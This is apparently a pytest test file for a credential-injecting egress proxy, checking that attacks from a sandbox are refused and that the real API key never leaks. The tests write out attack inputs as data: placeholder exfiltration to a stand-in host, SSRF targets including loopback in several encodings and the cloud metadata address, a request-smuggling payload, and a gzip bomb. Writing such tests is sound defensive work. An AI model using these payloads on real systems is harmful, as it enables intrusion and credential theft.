"""The egress proxy, attack by attack, with real TLS, a real DNS server and real clients
(curl, raw sockets), in a namespace with no route out (tests/support/egress_lab.py).

The "sandbox" holds only a placeholder; the upstream must receive the real key, and
nothing the sandbox gets back may hold it. Every refused destination has a listener that
records hits: a refusal that still reached it fails the test.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import logging
import ssl
import tracemalloc
import zlib
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path

import dns.asyncquery
import dns.exception
import dns.message
import dns.rcode
import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from gigmcp.core.definitions import parse_credentials, parse_egress
from gigmcp.core.instances import InstanceKey
from gigmcp.core.placeholders import InstanceCredentials, Sealed
from gigmcp.core.views import ServerDef
from gigmcp.egress import entrances, exchange, http1, listeners
from gigmcp.egress.audit import EgressAudit, EgressEvent
from gigmcp.egress.certs import CertificateAuthority, LeafCache, upstream_context
from gigmcp.egress.listeners import ProxyPorts
from gigmcp.egress.proxy import EgressProxy
from gigmcp.netpolicy.resolver import DnsResolver
from gigmcp.sandbox.identity import Identity, SourceTable
from gigmcp.store.db import make_engine, migrate
from gigmcp.store.models import EgressAuditRow
from tests.support.egress_lab import (
    OTHER_SANDBOX_IP,
    PROXY_IP,
    SANDBOX_IP,
    Lab,
    gzip_bomb,
    lab,
    ws_frame,
    ws_message,
    ws_parse,
)
from tests.support.proxy import proxy_curl

pytestmark = pytest.mark.root

KEY = InstanceKey(1, "api")
Frame = tuple[int, int, bytes]  # a WebSocket frame: first header byte, opcode, payload
REAL = "sk_live_REALKEY_0123456789abcdefghijKLMN"
PORTS = ProxyPorts.from_base(3128)
EGRESS = {
    "hosts": ["api.example.test", "other.example.test", "internal.example.test",
              "private.example.test", "metadata.example.test", "mixed.example.test",
              "v6internal.example.test", "nx.example.test", "mixed-dead.example.test"],
    "ports": [443, 80],
}  # fmt: skip
CREDS = [
    {
        "id": "api_key",
        "type": "api_key",
        "inject": {"header": "Authorization", "format": "Bearer {token}"},
        "env": "API_KEY",
        "hosts": ["api.example.test"],
    }
]


@dataclass
class World:
    lab: Lab
    proxy: EgressProxy
    placeholder: str
    gateway_ca: Path
    db: Path
    grants: dict[InstanceKey, InstanceCredentials]

    async def curl(self, *args: str, source: str = SANDBOX_IP) -> tuple[int, str, str]:
        """curl through the explicit proxy; returns (HTTP status, body, stderr)."""
        return await proxy_curl(self.gateway_ca, source, *args)

    def audit_rows(self) -> list[EgressAuditRow]:
        engine = make_engine(f"sqlite:///{self.db}")
        with Session(engine) as s:
            return list(s.scalars(select(EgressAuditRow).order_by(EgressAuditRow.id)))


@pytest.fixture(scope="module")
def the_lab() -> Iterator[Lab]:
    # One namespace for the module (it takes a second to build); hits reset per test.
    with lab() as built:
        yield built


@pytest.fixture
async def world(the_lab: Lab, tmp_path: Path) -> AsyncIterator[World]:
    the_lab.reset()
    if True:
        egress = parse_egress(EGRESS)
        creds = parse_credentials(CREDS, egress)
        server = ServerDef(1, "api", 7, ("x",), egress=egress, credentials=creds)
        placeholder = "gigmcp_ph_" + "P" * 30
        grant = InstanceCredentials(KEY, 7, server, (Sealed(creds[0], placeholder, REAL.encode()),))
        identities = SourceTable()
        identities.add(Identity(KEY, "api", 1, 7, PROXY_IP, SANDBOX_IP, "lo"))
        gateway_ca = CertificateAuthority.generate()
        ca_file = tmp_path / "gateway-ca.pem"
        ca_file.write_bytes(gateway_ca.cert_pem())
        db = tmp_path / "audit.db"
        engine = make_engine(f"sqlite:///{db}")
        migrate(engine)
        audit = EgressAudit(engine)
        grants = {KEY: grant}
        proxy = EgressProxy(
            identities=identities,
            grants=grants.get,
            resolver=DnsResolver(the_lab.dns),
            leaves=LeafCache(gateway_ca),
            upstream_tls=upstream_context(the_lab.ca_pem),
            audit=audit,
            ports=PORTS,
            bind="0.0.0.0",
        )
        await proxy.start()
        try:
            yield World(the_lab, proxy, placeholder, ca_file, db, grants)
        finally:
            await proxy.aclose()
            await audit.aclose()
            engine.dispose()


def auth(world: World) -> list[str]:
    return ["-H", f"Authorization: Bearer {world.placeholder}"]


# -- the credential path -----------------------------------------------------------------


async def test_the_upstream_gets_the_real_key_and_the_sandbox_never_sees_it(world: World) -> None:
    status, body, err = await world.curl(*auth(world), "https://api.example.test/v1/things?q=1")
    assert status == 200, err
    hits = world.lab.hits_on("11.0.0.1")
    assert len(hits) == 1 and hits[0].headers["authorization"] == f"Bearer {REAL}"
    # The upstream reflected every header back: the key came back, and was scrubbed.
    assert REAL not in body
    assert json.loads(body)["headers"]["authorization"] == f"Bearer {world.placeholder}"


async def test_attack_an_upstream_echoing_the_key_in_every_spelling_is_scrubbed(
    world: World,
) -> None:
    status, body, _ = await world.curl(*auth(world), "-D", "-", "https://api.example.test/echo-key")
    assert status == 200
    import base64
    import urllib.parse

    for form in (REAL, base64.b64encode(REAL.encode()).decode(), urllib.parse.quote(REAL, safe="")):
        assert form not in body, form
    assert world.placeholder in body
    assert f"x-echo: {world.placeholder}" in body.lower().replace(
        world.placeholder.lower(), world.placeholder
    )


async def test_a_compressed_echo_is_decompressed_to_be_scrubbed(world: World) -> None:
    status, body, _ = await world.curl(
        *auth(world), "--compressed", "https://api.example.test/echo-key-gzip"
    )
    assert status == 200
    assert REAL not in body and f"gz:{world.placeholder}" in body
    assert world.lab.hits_on("11.0.0.1")[0].headers.get("accept-encoding") == "identity"


async def test_attack_a_gzip_bomb_is_inflated_in_bounded_steps(world: World) -> None:
    # Decoded to be scrubbed: the whole body in one piece would be 48 MiB in the gateway's
    # memory at once (the proxy runs in this process: its allocations are traced here;
    # the lab's upstream too, so the bomb is made before).
    gzip_bomb(48)
    tracemalloc.start()
    try:
        status, size, err = await world.curl(
            *auth(world), "-o", "/dev/null", "-w", "%{size_download}\n%{http_code}",
            "https://api.example.test/gzip-bomb?mib=48",
        )  # fmt: skip
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert status == 200, err
    assert int(size) == 48 << 20  # all of it, decoded
    print(f"peak traced allocation while relaying a 48 MiB gzip bomb: {peak / 2**20:.1f} MiB")
    assert peak < 16 * 2**20


async def test_attack_the_placeholder_sent_to_another_allowed_host_is_blocked(world: World) -> None:
    status, body, _ = await world.curl(*auth(world), "https://other.example.test/collect")
    assert status == 403 and json.loads(body)["reason"] == "placeholder-exfiltration"
    assert world.lab.hits_on("11.0.0.2") == []
    # ... also in the URL, and in a body.
    status, _, _ = await world.curl(f"https://other.example.test/c?k={world.placeholder}")
    assert status == 403
    status, _, _ = await world.curl(
        "--data-binary", f"x={world.placeholder}", "https://other.example.test/c"
    )
    assert status == 403
    await world.proxy.audit.flush()
    rows = [r for r in world.audit_rows() if r.reason == "placeholder-exfiltration"]
    assert len(rows) == 3 and {r.credential for r in rows} == {"api_key"}


async def test_without_the_placeholder_other_hosts_work_and_get_no_key(world: World) -> None:
    status, _body, _ = await world.curl("https://other.example.test/ok")
    assert status == 200
    assert "authorization" not in world.lab.hits_on("11.0.0.2")[0].headers


# -- where a sandbox may go --------------------------------------------------------------


async def test_attack_a_host_outside_the_allowlist_is_refused_before_any_tls(world: World) -> None:
    status, _body, err = await world.curl("https://evil.example.test/")
    assert status in (0, 403), err  # curl reports the CONNECT refusal
    assert world.lab.hits_on("11.0.0.3") == []
    await world.proxy.audit.flush()
    assert any(
        r.reason == "host-not-allowed" and r.host == "evil.example.test" for r in world.audit_rows()
    )
    assert world.proxy.leaves.mints == 0, "no certificate was minted for a refused host"


async def test_attack_a_port_the_manifest_does_not_allow_is_refused(world: World) -> None:
    status, _, _ = await world.curl("https://api.example.test:8443/")
    assert status in (0, 403)
    assert [h for h in world.lab.hits if h.port == 8443] == []


@pytest.mark.parametrize("scheme", ["http", "https"])
@pytest.mark.parametrize("name", ["internal", "private", "metadata", "v6internal"])
async def test_attack_names_that_resolve_to_internal_addresses_are_refused(
    world: World, name: str, scheme: str
) -> None:
    status, body, _ = await world.curl(f"{scheme}://{name}.example.test/")
    assert status in (0, 403, 502)
    assert world.lab.internal_hits() == []
    if scheme == "http":
        assert json.loads(body)["reason"] == "ssrf-blocked"


async def test_attack_a_name_with_an_internal_answer_beside_a_dead_public_one(
    world: World,
) -> None:
    status, body, _ = await world.curl("http://mixed-dead.example.test/")
    assert status == 502 and json.loads(body)["reason"] == "connect-failed"
    assert world.lab.internal_hits() == []


async def test_with_several_answers_only_the_vetted_ones_are_dialled(world: World) -> None:
    _status, _, err = await world.curl("http://mixed.example.test/")
    # mixed.example.test answers 127.0.0.1 and 11.0.0.1 (which serves other names too).
    assert world.lab.internal_hits() == []
    assert [h.host for h in world.lab.hits] == ["11.0.0.1"], err


async def test_attack_a_redirect_to_the_metadata_service_is_not_followed_by_the_proxy(
    world: World,
) -> None:
    status, _, _ = await world.curl(
        "-L", "http://api.example.test/redirect?to=http://169.254.169.254/latest/"
    )
    assert status in (0, 403)
    assert world.lab.internal_hits() == []
    assert [h.path for h in world.lab.hits] == ["/redirect"]


async def raw(
    request: bytes, source: str = SANDBOX_IP, port: int = PORTS.explicit, to_close: bool = False
) -> bytes:
    """A hand-written request from a client that does not play by the rules: the first
    piece of the answer, or (``to_close``) all of it up to the proxy's close."""
    reader, writer = await asyncio.open_connection(PROXY_IP, port, local_addr=(source, 0))
    writer.write(request)
    await writer.drain()
    got = b""
    try:
        async with asyncio.timeout(5):
            while data := await reader.read(65536):
                got += data
                if not to_close:
                    break
            return got
    except ConnectionResetError:
        return got  # closed without a word (with our request unread: a reset)
    finally:
        writer.close()


async def tunnel(
    world: World, host: str = "api.example.test", port: int = 443
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A CONNECT tunnel with TLS inside (the gateway's CA trusted), ready for raw HTTP."""
    reader, writer = await asyncio.open_connection(
        PROXY_IP, PORTS.explicit, local_addr=(SANDBOX_IP, 0)
    )
    writer.write(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    await writer.drain()
    async with asyncio.timeout(5):
        head = await reader.readuntil(b"\r\n\r\n")
        assert head.startswith(b"HTTP/1.1 200"), head
        context = ssl.create_default_context(cafile=str(world.gateway_ca))
        await writer.start_tls(context, server_hostname=host)
    return reader, writer


async def tls_raw(world: World, request: bytes) -> bytes:
    """A hand-written request inside a TLS tunnel; everything the sandbox gets back, up to
    the close (send ``Connection: close``)."""
    reader, writer = await tunnel(world)
    writer.write(request)
    await writer.drain()
    got = b""
    try:
        async with asyncio.timeout(5):
            while data := await reader.read(65536):
                got += data
    except (ConnectionError, ssl.SSLError):
        pass
    finally:
        writer.close()
    return got


@pytest.mark.parametrize(
    "target",
    ["127.0.0.1:443", "2130706433:443", "0x7f.1:443", "0177.0.0.1:443", "[::1]:443",
     "[::ffff:127.0.0.1]:443", "169.254.169.254:443", "0xa9fea9fe:443", "10.99.9.9:443",
     "11.0.0.1:443", "localhost:443"],
)  # fmt: skip
async def test_attack_connect_to_ip_literals_in_every_spelling_is_refused(
    world: World, target: str
) -> None:
    answer = await raw(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    assert answer.startswith(b"HTTP/1.1 403") or answer.startswith(b"HTTP/1.1 400"), answer[:80]
    assert world.lab.hits == []


async def test_attack_an_unknown_source_gets_nothing(world: World) -> None:
    answer = await raw(b"CONNECT api.example.test:443 HTTP/1.1\r\n\r\n", source=OTHER_SANDBOX_IP)
    assert answer == b""
    await world.proxy.audit.flush()
    assert any(r.reason == "unknown-source" for r in world.audit_rows())


async def test_attack_garbage_instead_of_a_request_gets_400(world: World) -> None:
    answer = await raw(b"\x00\x01\x02 not http at all\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 400")


async def test_attack_requests_aimed_at_the_proxy_itself_are_refused(world: World) -> None:
    answer = await raw(b"GET /admin HTTP/1.1\r\nHost: 10.99.0.1:3128\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 403") and b"proxy-itself" in answer


async def test_attack_host_header_that_differs_from_the_tunnel_is_refused(world: World) -> None:
    status, body, _ = await world.curl(
        *auth(world), "-H", "Host: other.example.test", "https://api.example.test/"
    )
    assert status == 421 and json.loads(body)["reason"] == "host-mismatch"
    assert world.lab.hits == []


async def test_attack_sni_that_differs_from_the_connect_target_gets_no_tls(world: World) -> None:
    status, _, err = await world.curl(
        "--connect-to", "other.example.test:443:api.example.test:443", "https://other.example.test/"
    )
    # curl asks CONNECT api..., then says other... in its ClientHello: refused.
    assert status == 0 or status == 403, err
    assert world.lab.hits == []


async def test_attack_not_http_inside_a_tunnel_is_refused(world: World) -> None:
    answer = await raw(
        b"CONNECT api.example.test:80 HTTP/1.1\r\nHost: api.example.test:80\r\n\r\n"
        b"SSH-2.0-OpenSSH_9.2\r\n\r\n"
    )
    assert answer.startswith(b"HTTP/1.1 200")
    assert b"HTTP/1.1 400" in answer
    assert world.lab.hits == []


async def test_an_upstream_cannot_forge_the_proxys_answer_headers(world: World) -> None:
    _status, out, _ = await world.curl("-D", "-", "https://api.example.test/forge")
    assert out.startswith("HTTP/1.1 200")
    assert "x-gigmcp" not in out.lower()


async def test_proxy_only_and_hop_by_hop_headers_never_reach_the_upstream(world: World) -> None:
    status, _, _ = await world.curl(
        "-H", "Proxy-Authorization: Basic c2VjcmV0", "-H", "Proxy-Connection: keep-alive",
        "-H", "Connection: close, X-Hop", "-H", "X-Hop: 1", "-H", "X-Gigmcp-Denied: forged",
        "http://api.example.test/h",
    )  # fmt: skip
    assert status == 200
    seen = world.lab.hits[0].headers
    for name in ("proxy-authorization", "proxy-connection", "x-hop", "x-gigmcp-denied"):
        assert name not in seen, name


async def test_attack_oversized_headers_are_refused(world: World) -> None:
    big = b"X-Big: " + b"a" * (100 * 1024) + b"\r\n"
    answer = await raw(
        b"GET http://api.example.test/ HTTP/1.1\r\nHost: api.example.test\r\n" + big + b"\r\n"
    )
    assert answer.startswith(b"HTTP/1.1 431") or answer.startswith(b"HTTP/1.1 400"), answer[:40]
    assert world.lab.hits == []


async def test_attack_another_instance_cannot_use_this_ones_credential(world: World) -> None:
    # A second instance (profile 2) of a server with no credentials, sending the first
    # instance's placeholder toward the credential's own host: no value is injected.
    other = InstanceKey(2, "api")
    bare = ServerDef(2, "api", 8, ("x",), egress=parse_egress(EGRESS))
    world.proxy.identities.add(Identity(other, "api", 2, 8, PROXY_IP, OTHER_SANDBOX_IP, "lo"))
    world.grants[other] = InstanceCredentials(other, 8, bare, ())
    status, body, _ = await world.curl(
        *auth(world), "https://api.example.test/steal", source=OTHER_SANDBOX_IP
    )
    assert status == 200
    assert world.lab.hits[0].headers["authorization"] == f"Bearer {world.placeholder}"
    assert REAL not in body


WS_HEAD = (
    b"GET /ws{query} HTTP/1.1\r\nHost: api.example.test\r\nUpgrade: websocket\r\n"
    b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    b"Sec-WebSocket-Version: 13\r\n{extra}Authorization: Bearer {placeholder}\r\n\r\n"
)


def ws_request(world: World, query: str = "", extra: str = "") -> bytes:
    return (
        WS_HEAD.replace(b"{query}", query.encode())
        .replace(b"{extra}", extra.encode())
        .replace(b"{placeholder}", world.placeholder.encode())
    )


async def ws_frames(reader: asyncio.StreamReader, until_fin: bool = True) -> list[Frame]:
    """Frames as they come, up to the end of a message (or of the connection)."""
    frames: list[Frame] = []
    data = b""
    async with asyncio.timeout(5):
        while not (until_fin and frames and frames[-1][0] & 0x80):
            more = await reader.read(65536)
            if not more:
                break
            got, data = ws_parse(data + more)
            frames += got
    return frames


def inflated(frames: list[Frame]) -> bytes:
    """The payloads, with a compressed frame's (reserved bit 1 set) decompressed."""
    out = b""
    for head, _opcode, payload in frames:
        if head & 0x40:
            with contextlib.suppress(zlib.error):
                payload = zlib.decompressobj(wbits=-15).decompress(payload + b"\0\0\xff\xff")
        out += payload
    return out


async def test_websocket_upgrades_over_tls_get_the_key_and_relay_scrubbed(world: World) -> None:
    reader, writer = await tunnel(world)
    writer.write(ws_request(world))
    await writer.drain()
    async with asyncio.timeout(5):
        head = await reader.readuntil(b"\r\n\r\n")
        assert head.startswith(b"HTTP/1.1 101")
    # The real key, scrubbed, in frames the client can read.
    first = await ws_frames(reader)
    assert ws_message(first) == b"ws-auth:" + world.placeholder.encode() + b"\n"
    writer.write(ws_frame(b"ping", mask=b"abcd"))
    await writer.drain()
    assert ws_message(await ws_frames(reader)) == b"echo:ping"
    writer.close()
    assert world.lab.hits[0].headers["authorization"] == f"Bearer {REAL}"


async def test_attack_a_key_split_across_websocket_fragments_is_still_scrubbed(
    world: World,
) -> None:
    # The sandbox pads its message until the key straddles the upstream's fragments: the
    # frame headers between them would hide it from a scrubber of bytes.
    for fragment, pad in ((7, 3), (16, 9), (1, 0)):
        world.lab.reset()
        reader, writer = await tunnel(world)
        writer.write(ws_request(world, query=f"?fragment={fragment}&pad={pad}"))
        await writer.drain()
        async with asyncio.timeout(5):
            assert (await reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 101")
        message = ws_message(await ws_frames(reader))
        writer.close()
        assert world.lab.hits[0].headers["authorization"] == f"Bearer {REAL}"
        assert REAL.encode() not in message
        assert message == b"p" * pad + b"ws-auth:" + world.placeholder.encode() + b"\n"


def audited(world: World, reason: str) -> asyncio.Event:
    """Set when the proxy records an audit row with ``reason`` (the row is still written)."""
    seen = asyncio.Event()
    record = world.proxy.audit.record

    def watch(event: EgressEvent) -> None:
        record(event)
        if event.reason == reason:
            seen.set()

    world.proxy.audit.record = watch  # type: ignore[method-assign]
    return seen


@pytest.mark.parametrize("how", ["masked", "compress"])
async def test_attack_a_websocket_frame_the_scrubber_cannot_read_is_cut_off(
    world: World, how: str
) -> None:
    # A masked frame (its key is in the frame) or one an extension encoded (reserved bit
    # set, deflated) would carry the key past the scrubber.
    cut_off = audited(world, "upstream-websocket-frame")
    reader, writer = await tunnel(world)
    writer.write(ws_request(world, query=f"?{how}=1"))
    await writer.drain()
    async with asyncio.timeout(5):
        assert (await reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 101")
    frames = await ws_frames(reader, until_fin=False)  # up to the proxy's close
    writer.close()
    assert world.lab.hits[0].headers["authorization"] == f"Bearer {REAL}"
    assert REAL.encode() not in inflated(frames)
    async with asyncio.timeout(5):
        await cut_off.wait()


async def test_attack_a_websocket_upgrade_over_plain_http_gets_no_key(world: World) -> None:
    answer = await raw(ws_request(world), port=PORTS.http)
    assert answer.startswith(b"HTTP/1.1 403"), answer[:80]
    assert json.loads(answer.partition(b"\r\n\r\n")[2])["reason"] == "placeholder-over-plain-http"
    assert world.lab.hits == []
    assert REAL.encode() not in answer


# -- keys travel only over verified TLS ---------------------------------------------------


def plain_request(target: str, placeholder: str | None, extra: str = "") -> bytes:
    auth_line = f"Authorization: Bearer {placeholder}\r\n" if placeholder else ""
    return (
        f"GET {target} HTTP/1.1\r\nHost: api.example.test\r\n{auth_line}{extra}"
        "Connection: close\r\n\r\n"
    ).encode()


async def test_attack_no_key_is_injected_into_plain_http_toward_the_credentials_host(
    world: World,
) -> None:
    # Without any placeholder, through each plain entrance: the key's own host, but a leg
    # anyone on the path could read.
    status, _, err = await world.curl("http://api.example.test/explicit")
    assert status == 200, err
    answer = await raw(plain_request("/transparent", None), port=PORTS.http, to_close=True)
    assert answer.startswith(b"HTTP/1.1 200"), answer[:80]
    connect = b"CONNECT api.example.test:80 HTTP/1.1\r\nHost: api.example.test:80\r\n\r\n"
    answer = await raw(connect + plain_request("/tunnel", None), to_close=True)
    assert b"HTTP/1.1 200 OK" in answer, answer[:200]
    assert [h.path for h in world.lab.hits] == ["/explicit", "/transparent", "/tunnel"]
    for hit in world.lab.hits:
        assert "authorization" not in hit.headers, hit.path


@pytest.mark.parametrize("entrance", ["explicit", "transparent", "connect-tunnel"])
async def test_attack_a_placeholder_on_a_plain_http_request_is_refused_and_audited(
    world: World, entrance: str
) -> None:
    if entrance == "explicit":
        request = plain_request("http://api.example.test/p", world.placeholder)
        answer = await raw(request, to_close=True)
    elif entrance == "transparent":
        answer = await raw(plain_request("/p", world.placeholder), port=PORTS.http, to_close=True)
    else:
        connect = b"CONNECT api.example.test:80 HTTP/1.1\r\nHost: api.example.test:80\r\n\r\n"
        answer = await raw(connect + plain_request("/p", world.placeholder), to_close=True)
        assert answer.startswith(b"HTTP/1.1 200")
        answer = answer.partition(b"\r\n\r\n")[2]
    assert answer.startswith(b"HTTP/1.1 403"), answer[:80]
    body = json.loads(answer.partition(b"\r\n\r\n")[2])
    assert body["reason"] == "placeholder-over-plain-http"
    assert "TLS" in body["message"]
    assert world.lab.hits == []
    await world.proxy.audit.flush()
    rows = [r for r in world.audit_rows() if r.reason == "placeholder-over-plain-http"]
    assert len(rows) == 1 and rows[0].credential == "api_key" and rows[0].scheme == "http"


async def test_attack_a_placeholder_in_a_plain_http_body_is_refused(world: World) -> None:
    status, body, _ = await world.curl(
        "--data-binary", f"key={world.placeholder}", "http://api.example.test/c"
    )
    assert status == 403 and json.loads(body)["reason"] == "placeholder-over-plain-http"
    assert world.lab.hits == []


# -- nothing comes back outside what the scrubber reads -----------------------------------


def leak_request(world: World, path: str) -> bytes:
    return (
        f"GET {path} HTTP/1.1\r\nHost: api.example.test\r\n"
        f"Authorization: Bearer {world.placeholder}\r\nConnection: close\r\n\r\n"
    ).encode()


def assert_no_key(answer: bytes) -> None:
    # Header names arrive lower-cased: a lower-cased key is still most of a key.
    assert REAL.lower().encode() not in answer.lower(), answer[:400]


async def test_attack_a_key_in_the_upstreams_reason_phrase_is_not_forwarded(world: World) -> None:
    answer = await tls_raw(world, leak_request(world, "/leak-reason"))
    assert answer.startswith(b"HTTP/1.1 401 Unauthorized\r\n"), answer[:80]
    assert_no_key(answer)
    assert world.lab.hits[0].headers["authorization"] == f"Bearer {REAL}"


async def test_attack_a_key_in_a_response_header_name_is_not_forwarded(world: World) -> None:
    answer = await tls_raw(world, leak_request(world, "/leak-header-name"))
    assert answer.startswith(b"HTTP/1.1 200"), answer[:80]
    assert_no_key(answer)


async def test_attack_a_key_in_an_informational_answer_is_not_forwarded(world: World) -> None:
    answer = await tls_raw(world, leak_request(world, "/leak-early-hints"))
    assert answer.startswith(b"HTTP/1.1 103"), answer[:80]
    assert b"HTTP/1.1 200" in answer
    assert_no_key(answer)
    assert world.placeholder.encode() in answer  # the link header's value, scrubbed


async def test_attack_a_key_in_a_trailer_is_not_forwarded(world: World) -> None:
    answer = await tls_raw(world, leak_request(world, "/leak-trailer"))
    assert answer.startswith(b"HTTP/1.1 200"), answer[:80]
    assert b"ok" in answer
    assert_no_key(answer)


async def test_attack_permessage_deflate_is_never_negotiated(world: World) -> None:
    # Compressed frames would carry an echoed key past the scrubber: the offer never
    # reaches the upstream, which then answers uncompressed, and is scrubbed.
    reader, writer = await tunnel(world)
    offer = "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n"
    writer.write(ws_request(world, extra=offer))
    await writer.drain()
    async with asyncio.timeout(5):
        head = await reader.readuntil(b"\r\n\r\n")
        assert head.startswith(b"HTTP/1.1 101")
        assert b"sec-websocket-extensions" not in head.lower()
    first = await ws_frames(reader)
    writer.close()
    assert "sec-websocket-extensions" not in world.lab.hits[0].headers
    assert REAL.encode() not in inflated(first)
    assert ws_message(first) == b"ws-auth:" + world.placeholder.encode() + b"\n"


async def test_attack_an_upstream_that_compresses_without_being_asked_is_cut_off(
    world: World,
) -> None:
    answer = await tls_raw(world, ws_request(world, query="?deflate=always"))
    head, _, rest = answer.partition(b"\r\n\r\n")
    assert REAL.encode() not in inflated(ws_parse(rest)[0])
    assert head.startswith(b"HTTP/1.1 502"), head[:80]
    assert json.loads(rest)["reason"] == "upstream-extension"


# -- no value in any log --------------------------------------------------------------------


class LogMark(logging.Handler):
    """Sets ``seen`` when a record holding ``text`` is emitted (on the loop's thread)."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.text = text
        self.seen = asyncio.Event()

    def emit(self, record: logging.LogRecord) -> None:
        if self.text in record.getMessage():
            self.seen.set()


CANARY = "gig-canary-proxy-5f1e0c9a7b3d"


@pytest.mark.parametrize("value", [CANARY, CANARY + " "], ids=["valid", "trailing-space"])
async def test_attack_a_canary_key_reaches_no_log_record_whatever_the_traffic(
    world: World, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str], value: str
) -> None:
    # With a trailing space the rendered header is no valid field value: h11 would refuse
    # it with an error quoting it, and that error used to be logged on every request.
    creds = parse_credentials(CREDS, parse_egress(EGRESS))
    server = ServerDef(1, "api", 7, ("x",), egress=parse_egress(EGRESS), credentials=creds)
    world.grants[KEY] = InstanceCredentials(
        KEY, 7, server, (Sealed(creds[0], world.placeholder, value.encode()),)
    )
    caplog.set_level(logging.DEBUG)
    statuses = []
    for path in ("/c", "/echo-key", "/leak-reason", "/leak-header-name", "/status/401"):
        status, body, _ = await world.curl(*auth(world), f"https://api.example.test{path}")
        statuses.append(status)
        assert CANARY not in body, path
    reader, writer = await tunnel(world)
    writer.write(ws_request(world))
    await writer.drain()
    async with asyncio.timeout(5):
        head = await reader.readuntil(b"\r\n\r\n")
        statuses.append(int(head.split()[1]))
        if head.startswith(b"HTTP/1.1 101"):
            assert CANARY.encode() not in await reader.readuntil(b"\n")
    writer.close()
    await raw(plain_request("http://api.example.test/p", world.placeholder), to_close=True)
    if value != CANARY:
        assert statuses == [502] * 6
        assert world.lab.hits == []
        await world.proxy.audit.flush()
        rows = [r for r in world.audit_rows() if r.reason == "credential-unusable"]
        assert len(rows) == 6 and {r.credential for r in rows} == {"api_key"}
    else:
        assert world.lab.hits[0].headers["authorization"] == f"Bearer {CANARY}"
    # A control: a sandbox that does not trust the gateway's CA breaks off the handshake,
    # which the proxy logs at DEBUG; that record must be among those searched.
    mark = LogMark("TLS handshake")
    logging.getLogger(entrances.__name__).addHandler(mark)
    try:
        reader, writer = await asyncio.open_connection(
            PROXY_IP, PORTS.explicit, local_addr=(SANDBOX_IP, 0)
        )
        writer.write(b"CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test\r\n\r\n")
        await reader.readuntil(b"\r\n\r\n")
        with pytest.raises(ssl.SSLCertVerificationError):
            await writer.start_tls(ssl.create_default_context(), server_hostname="api.example.test")
        writer.close()
        async with asyncio.timeout(5):
            await mark.seen.wait()
    finally:
        logging.getLogger(entrances.__name__).removeHandler(mark)
    assert any("TLS handshake" in r.getMessage() for r in caplog.records)
    formatter = logging.Formatter("%(name)s %(levelname)s %(message)s")
    for record in caplog.records:
        assert CANARY not in formatter.format(record), record.name
        assert CANARY not in repr(record.args) + repr(record.__dict__), record.name
    out, errs = capfd.readouterr()
    assert CANARY not in out and CANARY not in errs


# -- request framing ----------------------------------------------------------------------


@pytest.mark.parametrize("over", ["plain-http", "tls"])
async def test_attack_content_length_with_transfer_encoding_is_refused(
    world: World, over: str
) -> None:
    # A front end reading one framing and a back end the other: the smuggled request
    # would ride a pooled upstream connection.
    smuggled = b"GET /smuggled HTTP/1.1\r\nHost: api.example.test\r\n\r\n"
    body = b"0\r\n\r\n" + smuggled
    target = b"http://api.example.test/front" if over == "plain-http" else b"/front"
    request = (
        b"POST " + target + b" HTTP/1.1\r\nHost: api.example.test\r\n"
        b"Content-Length: " + str(len(body)).encode() + b"\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n" + body
    )
    if over == "plain-http":
        answer = await raw(request, to_close=True)
    else:
        answer = await tls_raw(world, request)
    assert answer.startswith(b"HTTP/1.1 400"), answer[:80]
    assert json.loads(answer.partition(b"\r\n\r\n")[2])["reason"] == "ambiguous-framing"
    assert world.lab.hits == []
    await world.proxy.audit.flush()
    assert any(r.reason == "ambiguous-framing" for r in world.audit_rows())


# -- transparent mode --------------------------------------------------------------------


async def test_transparent_tls_takes_the_destination_from_sni(world: World) -> None:
    proc = await asyncio.create_subprocess_exec(
        "curl", "-sS", "--interface", SANDBOX_IP, "--cacert", str(world.gateway_ca),
        "--connect-to", f"api.example.test:443:{PROXY_IP}:{PORTS.tls}",
        "-H", f"Authorization: Bearer {world.placeholder}", "https://api.example.test/t",
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip
    out, err = await proc.communicate()
    assert proc.returncode == 0, err
    assert world.lab.hits_on("11.0.0.1")[0].headers["authorization"] == f"Bearer {REAL}"
    assert REAL not in out.decode()


async def test_transparent_http_takes_the_destination_from_host(world: World) -> None:
    answer = await raw(
        b"GET /plain HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n",
        port=PORTS.http,
    )
    assert answer.startswith(b"HTTP/1.1 200")
    answer = await raw(b"GET / HTTP/1.1\r\nHost: evil.example.test\r\n\r\n", port=PORTS.http)
    assert answer.startswith(b"HTTP/1.1 403")
    assert [h.path for h in world.lab.hits] == ["/plain"]


# -- the audit trail ---------------------------------------------------------------------


async def test_every_request_is_an_audit_row_without_query_or_secret(world: World) -> None:
    await world.curl(*auth(world), "https://api.example.test/a/b?token=hunter2&x=1")
    await world.curl("https://evil.example.test/")
    await world.proxy.audit.flush()
    rows = world.audit_rows()
    ok = next(r for r in rows if r.decision == "allowed")
    assert (ok.method, ok.host, ok.port, ok.path, ok.status) == (
        "GET",
        "api.example.test",
        443,
        "/a/b",
        200,
    )
    assert ok.credential == "api_key" and ok.server == "api" and ok.owner_id == 7
    assert ok.bytes_in > 0 and ok.duration_ms is not None
    assert any(r.decision == "denied" and r.reason == "host-not-allowed" for r in rows)
    raw_db = world.db.read_bytes() + b"".join(
        p.read_bytes() for p in world.db.parent.glob("audit.db-*")
    )
    assert REAL.encode() not in raw_db and b"hunter2" not in raw_db


